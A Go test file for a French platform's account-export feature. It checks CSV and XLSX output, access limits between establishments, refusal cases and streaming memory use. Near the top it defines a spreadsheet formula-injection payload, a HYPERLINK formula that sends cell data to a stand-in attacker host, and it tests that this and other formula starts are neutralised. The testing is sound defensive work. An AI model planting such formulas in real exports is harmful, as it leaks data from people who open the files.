package service_test

import (
	"archive/zip"
	"bytes"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/sesame-platform/sesame/internal/service"
	"github.com/sesame-platform/sesame/internal/sesame"
	"github.com/sesame-platform/sesame/internal/store"
	"github.com/sesame-platform/sesame/internal/testenv"
)

// hyperlink is a department that would run as a formula if a spreadsheet
// were allowed to evaluate it.
const hyperlink = `=HYPERLINK("http://pirate.example/?d="&A1,"Cliquez ici")`

var exportHeader = []string{"Civilité", "Nom", "Prénom", "Identifiant", "Courriel", "Téléphone", "Service", "Profil",
	"Statut", "Expiration du compte", "Dernière connexion"}

// exportEnv is an establishment with its administrator and three
// colleagues, one of whose department is a formula.
type exportEnv struct {
	env                   *testenv.Env
	est                   *sesame.Establishment
	actor                 sesame.Actor
	admin                 *service.NewAccount
	martin, durand, roux  *service.NewAccount
	otherEst              *sesame.Establishment
	otherActor            sesame.Actor
	otherAccount, deleted *service.NewAccount
}

func newExportEnv(t *testing.T) *exportEnv {
	t.Helper()
	env := testenv.New(t, base)
	x := &exportEnv{env: env}
	x.est, x.admin = activeAdmin(t, env)
	_, x.actor = adminActor(t, env, x.admin.Person.Identifier)
	create := func(actor sesame.Actor, first, surname, email, dept, phone string) *service.NewAccount {
		t.Helper()
		in := testenv.ValidPerson(first, surname, email)
		in.Department, in.Phone = dept, phone
		na, err := env.Service.CreateAccount(ctx, actor, in, nil)
		if err != nil {
			t.Fatalf("create %s: %v", surname, err)
		}
		return na
	}
	x.martin = create(x.actor, "Céline", "Martin", "celine.martin@mairie.example", "Ressources humaines", "")
	x.durand = create(x.actor, "Paul", "Durand", "paul.durand@mairie.example", hyperlink, "+33 5 57 00 00 00")
	x.roux = create(x.actor, "Célestin", "Roux", "celestin.roux@mairie.example", "Finances", "05 57 24 00 00")
	x.deleted = create(x.actor, "Zoé", "Ancien", "zoe.ancien@mairie.example", "Finances", "")
	if _, err := env.Service.DeleteAccounts(ctx, x.actor, []int64{x.deleted.Account.ID}); err != nil {
		t.Fatal(err)
	}

	// Another establishment, with an account of its own.
	inB := testenv.ValidEstablishment()
	inB.Name, inB.SIRET = "CENTRE HOSPITALIER DE LIBOURNE", "26330036300003"
	adminB := testenv.ValidPerson("Hervé", "Lenoir", "herve.lenoir@ch-libourne.example")
	var nb *service.NewAccount
	x.otherEst, nb = env.Establishment(t, inB, adminB)
	if _, err := env.Service.Activate(ctx, secretOf(t, env.ActivationLink(t, adminB.Email)), "Vigne-Rouge-26!", "Vigne-Rouge-26!", "10.0.0.2"); err != nil {
		t.Fatal(err)
	}
	_, x.otherActor = adminActor(t, env, nb.Person.Identifier)
	x.otherAccount = create(x.otherActor, "Luc", "Finot", "luc.finot@ch-libourne.example", "Finances", "")
	return x
}

func (x *exportEnv) export(t *testing.T, actor sesame.Actor, sel service.ExportSelection, format string) ([]byte, int, error) {
	t.Helper()
	var buf bytes.Buffer
	n, err := x.env.Service.ExportAccounts(ctx, actor, sel, format, &buf)
	return buf.Bytes(), n, err
}

func exportEvents(t *testing.T, env *testenv.Env) []*sesame.Event {
	t.Helper()
	evs, err := env.Store.Read().Events(ctx, store.EventFilter{Kind: sesame.EventAccountsExported})
	if err != nil {
		t.Fatal(err)
	}
	return evs
}

func TestExportCheckedAccountsAsCSV(t *testing.T) {
	x := newExportEnv(t)
	b, n, err := x.export(t, x.actor, service.ExportSelection{IDs: []int64{x.martin.Account.ID, x.durand.Account.ID, x.martin.Account.ID}}, "csv")
	if err != nil {
		t.Fatal(err)
	}
	records := testenv.ReadCSV(t, b)
	if n != 2 || len(records) != 3 {
		t.Fatalf("n = %d, %d records, want 2 accounts:\n%s", n, len(records), b)
	}
	if !slices.Equal(records[0], exportHeader) {
		t.Errorf("header = %q", records[0])
	}
	// In the list's order: by name.
	if got := testenv.Column(records, "Nom"); !slices.Equal(got, []string{"Durand", "Martin"}) {
		t.Errorf("names = %q", got)
	}
	durand := records[1]
	want := []string{"Mme", "Durand", "Paul", x.durand.Person.Identifier, "paul.durand@mairie.example", x.durand.Person.Phone,
		"'" + hyperlink, "Utilisateur", "En attente d'activation", "18/09/2027", ""}
	if !slices.Equal(durand, want) {
		t.Errorf("row =\n%q\nwant\n%q", durand, want)
	}
	evs := exportEvents(t, x.env)
	if len(evs) != 1 {
		t.Fatalf("%d export events, want 1", len(evs))
	}
	ev := evs[0]
	if ev.EstablishmentID == nil || *ev.EstablishmentID != x.est.ID || ev.ActorPersonID == nil || *ev.ActorPersonID != x.admin.Person.ID ||
		ev.Detail["count"] != float64(2) || ev.Detail["format"] != "CSV" || ev.IP != "127.0.0.1" {
		t.Errorf("event = %+v", ev)
	}
}

func TestExportAllResultsOfTheFilter(t *testing.T) {
	x := newExportEnv(t)
	for _, tc := range []struct {
		name  string
		query store.AccountQuery
		want  []string
	}{
		{"everyone but the deleted", store.AccountQuery{}, []string{"Durand", "Gueriot", "Martin", "Roux"}},
		{"search", store.AccountQuery{Search: "fin"}, []string{"Roux"}},
		{"filter", store.AccountQuery{Filter: store.AccountFilterAdmins}, []string{"Gueriot"}},
		{"search and filter", store.AccountQuery{Search: "cel", Filter: store.AccountFilterPending}, []string{"Martin", "Roux"}},
		{"another establishment's ID is ignored", store.AccountQuery{EstablishmentID: x.otherEst.ID, Search: "fin"}, []string{"Roux"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b, n, err := x.export(t, x.actor, service.ExportSelection{All: true, Query: tc.query}, "csv")
			if err != nil {
				t.Fatal(err)
			}
			if got := testenv.Column(testenv.ReadCSV(t, b), "Nom"); !slices.Equal(got, tc.want) || n != len(tc.want) {
				t.Errorf("n = %d, names = %q, want %q", n, got, tc.want)
			}
		})
	}
	// Newest first: the last export above.
	ev := exportEvents(t, x.env)[0]
	if ev.Detail["filter"] != "Tous" || ev.Detail["search"] != "fin" || ev.Detail["count"] != float64(1) ||
		ev.Detail["selection"] != "tous les résultats de la liste" {
		t.Errorf("latest event detail = %v", ev.Detail)
	}
}

func TestExportAsXLSX(t *testing.T) {
	x := newExportEnv(t)
	b, n, err := x.export(t, x.actor, service.ExportSelection{All: true}, "xlsx")
	if err != nil {
		t.Fatal(err)
	}
	if n != 4 {
		t.Errorf("n = %d, want 4", n)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Comptes")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || !slices.Equal(rows[0], exportHeader) {
		t.Fatalf("rows = %q", rows)
	}
	if got := testenv.Column(rows, "Nom"); !slices.Equal(got, []string{"Durand", "Gueriot", "Martin", "Roux"}) {
		t.Errorf("names = %q", got)
	}
	// The formula comes back as the text typed, and is no formula.
	if v, _ := f.GetCellValue("Comptes", "G2"); v != hyperlink {
		t.Errorf("department = %q, want the text %q", v, hyperlink)
	}
	if v, _ := f.GetCellValue("Comptes", "F2"); v != x.durand.Person.Phone {
		t.Errorf("phone = %q, want %q", v, x.durand.Person.Phone)
	}
	for _, cell := range []string{"F2", "G2"} {
		if formula, _ := f.GetCellFormula("Comptes", cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
	}
	if bytes.Contains(sheetXML(t, b), []byte("<f>")) {
		t.Errorf("the sheet holds a formula element")
	}
	// Dates are dates, shown the French way.
	if v, _ := f.GetCellValue("Comptes", "J2"); v != "18/09/2027" {
		t.Errorf("expiry = %q", v)
	}
	if v, _ := f.GetCellValue("Comptes", "K3"); v != "18/03/2026 09:30" {
		t.Errorf("Gueriot's last login = %q, want 18/03/2026 09:30", v)
	}
	if raw, _ := f.GetCellValue("Comptes", "J2", excelize.Options{RawCellValue: true}); strings.Contains(raw, "/") {
		t.Errorf("expiry is stored as text %q, not as a date", raw)
	}
	style, _ := f.GetCellStyle("Comptes", "A1")
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("the header is not bold: %+v %v", s, err)
	}
	if w, _ := f.GetColWidth("Comptes", "E"); w < 30 {
		t.Errorf("e-mail column width = %v", w)
	}
	if evs := exportEvents(t, x.env); len(evs) != 1 || evs[0].Detail["format"] != "XLSX" || evs[0].Detail["count"] != float64(4) {
		t.Errorf("events = %+v", evs)
	}
}

// sheetXML is the XLSX's worksheet as written.
func sheetXML(t *testing.T, b []byte) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	out, _ := io.ReadAll(rc)
	return out
}

func TestExportNeverReachesAnotherEstablishment(t *testing.T) {
	x := newExportEnv(t)
	for _, tc := range []struct {
		name string
		ids  []int64
	}{
		{"another establishment's account", []int64{x.otherAccount.Account.ID}},
		{"mixed with one's own", []int64{x.martin.Account.ID, x.otherAccount.Account.ID}},
		{"a deleted account", []int64{x.deleted.Account.ID}},
		{"no such account", []int64{x.martin.Account.ID, 999999}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b, n, err := x.export(t, x.actor, service.ExportSelection{IDs: tc.ids}, "csv")
			if sesame.ErrorCode(err) != sesame.ENotFound || n != 0 || len(b) != 0 {
				t.Errorf("err = %v, n = %d, %d bytes: want ENotFound and nothing written", err, n, len(b))
			}
		})
	}
	b, _, err := x.export(t, x.otherActor, service.ExportSelection{All: true}, "csv")
	if err != nil {
		t.Fatal(err)
	}
	if got := testenv.Column(testenv.ReadCSV(t, b), "Nom"); !slices.Equal(got, []string{"Finot", "Lenoir"}) {
		t.Errorf("B's export = %q", got)
	}
	// Only the successful export is in the history, and in B's.
	evs := exportEvents(t, x.env)
	if len(evs) != 1 || *evs[0].EstablishmentID != x.otherEst.ID {
		t.Errorf("events = %+v", evs)
	}
}

func TestExportRefusals(t *testing.T) {
	x := newExportEnv(t)
	// Céline becomes active and logs in: a user, not an administrator.
	if _, err := x.env.Service.Activate(ctx, secretOf(t, x.env.ActivationLink(t, "celine.martin@mairie.example")),
		"Colline-Bleue-7!", "Colline-Bleue-7!", ""); err != nil {
		t.Fatal(err)
	}
	res, err := x.env.Service.Login(ctx, x.martin.Person.Identifier, "Colline-Bleue-7!", "", "")
	if err != nil {
		t.Fatal(err)
	}
	sess, err := x.env.Service.Authenticate(ctx, res.Secret)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name   string
		actor  sesame.Actor
		sel    service.ExportSelection
		format string
		code   string
	}{
		{"a user", sess.Actor(""), service.ExportSelection{All: true}, "csv", sesame.EForbidden},
		{"an operator", testenv.Operator, service.ExportSelection{All: true}, "csv", sesame.EForbidden},
		{"unknown format", x.actor, service.ExportSelection{All: true}, "pdf", sesame.EInvalid},
		{"nothing selected", x.actor, service.ExportSelection{}, "csv", sesame.EInvalid},
		{"too many IDs", x.actor, service.ExportSelection{IDs: manyIDs(store.MaxExportIDs + 1)}, "csv", sesame.EInvalid},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b, _, err := x.export(t, tc.actor, tc.sel, tc.format)
			if sesame.ErrorCode(err) != tc.code || len(b) != 0 {
				t.Errorf("err = %v (%s), %d bytes: want %s and nothing", err, sesame.ErrorCode(err), len(b), tc.code)
			}
		})
	}
	if evs := exportEvents(t, x.env); len(evs) != 0 {
		t.Errorf("refused exports were recorded: %+v", evs)
	}
}

func manyIDs(n int) []int64 {
	ids := make([]int64, n)
	for i := range ids {
		ids[i] = int64(i + 1)
	}
	return ids
}

func TestCSVNeutralisesEveryFormulaStart(t *testing.T) {
	env := testenv.New(t, base)
	_, admin := activeAdmin(t, env)
	_, actor := adminActor(t, env, admin.Person.Identifier)
	starts := []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1", "Plain - text"}
	for i, dept := range starts {
		in := testenv.ValidPerson("Jean", "Essai"+string(rune('a'+i)), "jean.essai"+string(rune('a'+i))+"@mairie.example")
		in.Department = dept
		if _, err := env.Service.CreateAccount(ctx, actor, in, nil); err != nil {
			t.Fatalf("%q: %v", dept, err)
		}
	}
	var buf bytes.Buffer
	if _, err := env.Service.ExportAccounts(ctx, actor, service.ExportSelection{All: true, Query: store.AccountQuery{Search: "essai"}}, "csv", &buf); err != nil {
		t.Fatal(err)
	}
	got := testenv.Column(testenv.ReadCSV(t, buf.Bytes()), "Service")
	// The form trims the tab; what is left starts a formula all the same.
	want := []string{"'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'=1", "'＝1+1", "Plain - text"}
	if !slices.Equal(got, want) {
		t.Errorf("departments = %q, want %q", got, want)
	}
}

// TestExportStreams checks that an export's memory does not grow with the
// number of accounts: the live heap while 5,000 accounts are written is
// compared with what merely holding those rows takes.
func TestExportStreams(t *testing.T) {
	if testing.Short() {
		t.Skip("generates 5,000 accounts")
	}
	env := testenv.New(t, base)
	estID, err := env.Store.Generate(ctx, store.GenerateOptions{Establishments: 1, Accounts: 5000, Seed: 7, Today: sesame.DateOf(testenv.Start)})
	if err != nil {
		t.Fatal(err)
	}
	actor := generatedAdmin(t, env.Store, estID, sesame.DateOf(testenv.Start))

	held := liveHeapGrowth(func(sample func()) {
		var rows []store.AccountExportRow
		err := env.Store.Read().EachAccountExport(ctx, store.AccountExport{Query: store.AccountQuery{EstablishmentID: estID,
			Today: sesame.DateOf(testenv.Start)}}, func(r *store.AccountExportRow) error {
			rows = append(rows, *r)
			if len(rows)%500 == 0 {
				sample()
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		sample()
		runtime.KeepAlive(rows)
	})
	var n int
	streamed := liveHeapGrowth(func(sample func()) {
		w := &sampling{every: 32 << 10, sample: sample}
		if n, err = env.Service.ExportAccounts(ctx, actor, service.ExportSelection{All: true}, "csv", w); err != nil {
			t.Fatal(err)
		}
	})
	live, err := env.Store.Read().CountAccountExport(ctx, store.AccountExport{Query: store.AccountQuery{EstablishmentID: estID, Today: sesame.DateOf(testenv.Start)}})
	if err != nil {
		t.Fatal(err)
	}
	if n != live || n < 4000 {
		t.Fatalf("exported %d accounts, want the %d live ones", n, live)
	}
	t.Logf("live heap growth: holding the rows %d KiB, streaming the CSV %d KiB", held>>10, streamed>>10)
	if streamed*4 > held {
		t.Errorf("streaming 5,000 accounts grew the heap by %d KiB, over a quarter of holding them (%d KiB)", streamed>>10, held>>10)
	}
}

// generatedAdmin is the actor of the active administrator store.Generate
// gives each establishment.
func generatedAdmin(t testing.TB, st *store.Store, estID int64, today sesame.Date) sesame.Actor {
	t.Helper()
	a := sesame.Actor{EstablishmentID: estID, Label: "Administrateur généré", IP: "127.0.0.1", Profile: sesame.ProfileAdmin}
	err := st.ReadDB().QueryRowContext(ctx, `SELECT a.id, a.person_id FROM accounts a JOIN persons p ON p.id = a.person_id
		WHERE a.establishment_id = $1 AND a.profile = 'admin' AND a.status = 'active' AND a.expires_on >= $2 AND p.locked_at IS NULL
		ORDER BY a.id LIMIT 1`, estID, today).Scan(&a.AccountID, &a.PersonID)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// liveHeapGrowth runs fn, which calls sample now and then, and returns the
// largest growth of the live heap seen by sample over the heap before fn.
func liveHeapGrowth(fn func(sample func())) uint64 {
	live := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	base := live()
	var peak uint64
	fn(func() {
		if l := live(); l > base && l-base > peak {
			peak = l - base
		}
	})
	return peak
}

// sampling is a writer that discards what it gets, counting it, and calls
// sample after each every bytes.
type sampling struct {
	every, since, total int
	sample              func()
}

func (s *sampling) Write(p []byte) (int, error) {
	s.total += len(p)
	s.since += len(p)
	if s.since >= s.every {
		s.since = 0
		s.sample()
	}
	return len(p), nil
}
